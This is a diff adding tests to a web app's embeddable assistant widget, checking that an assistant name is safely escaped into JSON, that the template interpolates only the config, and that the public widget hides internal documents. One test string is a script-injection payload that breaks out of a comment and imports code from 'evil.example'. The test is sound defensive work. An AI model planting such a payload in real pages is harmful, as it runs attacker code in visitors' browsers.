@@ -122,3 +122,51 @@ def test_manager_creates_a_widget_key_and_sees_the_embed_code(acme, manager_clie
     assert "/assistants/widget.js?key=wk_" in html
     bad = manager_client.post(f"/assistants/{support_bot.pk}/widget-keys/", {"allowed_origins": "ftp://x"}, follow=True)
     assert "is not an origin" in bad.content.decode()
+
+
+HOSTILE_NAME = "*/ window.__pwned=1; import(`//evil.example/x.js`) /* </script><b>\u2028\u2029'\"x"
+
+
+def test_a_hostile_assistant_name_stays_inside_a_json_string(acme, support_bot, widget_key):
+    with tenant_context(acme):
+        support_bot.name = HOSTILE_NAME
+        support_bot.save(update_fields=["name"])
+    body = Client(HTTP_HOST=ACME_HOST).get(f"/assistants/widget.js?key={widget_key.key}").content.decode()
+    prefix, rest = body.split("var config = ", 1)
+    literal, after = rest.split(";\n", 1)
+    assert json.loads(literal)["title"] == HOSTILE_NAME  # the name arrives intact, as data
+    for marker in ("__pwned", "evil.example", "</script>", "<b>", "\u2028", "\u2029"):
+        assert marker not in prefix + after, marker  # nowhere outside the literal
+    for raw in ("<", ">", "\u2028", "\u2029"):
+        assert raw not in literal, raw  # escaped inside it
+    assert "*/" not in prefix.split("*/", 1)[1]  # the header comment is closed once, by the template itself
+
+
+def test_the_widget_template_interpolates_nothing_but_the_json_config():
+    from pathlib import Path
+
+    import assistants
+
+    template = (Path(assistants.__file__).parent / "templates/assistants/widget.js").read_text()
+    assert template.count("{{") == 1 and "{{ config_json|safe }}" in template and "{%" not in template
+
+
+def test_the_widget_answers_from_public_documents_only(acme, help_center, widget_key, support_bot):
+    from assistants.chat import chat
+    from knowledge import services
+
+    with tenant_context(acme):
+        internal = services.document_create_from_text(
+            title="Gift card fraud playbook",
+            text="Gift card balances are checked in the Vault console; never tell customers the vault PIN 4471.",
+            language="en",
+            enqueue=False,
+        )
+        services.document_index(document_id=internal.pk)
+    question = "How do I check a gift card balance?"
+    widget = call("chat", {"key": widget_key.key, "message": question}).json()
+    assert "4471" not in widget["reply"] and "Vault" not in widget["reply"]
+    assert all(c.get("document") != "Gift card fraud playbook" for c in widget["citations"])
+    with tenant_context(acme):
+        staff = chat(assistant=support_bot, message=question).as_dict()  # the API and the playground: both
+    assert any(c.get("document") == "Gift card fraud playbook" for c in staff["citations"]), staff  # type: ignore[attr-defined]
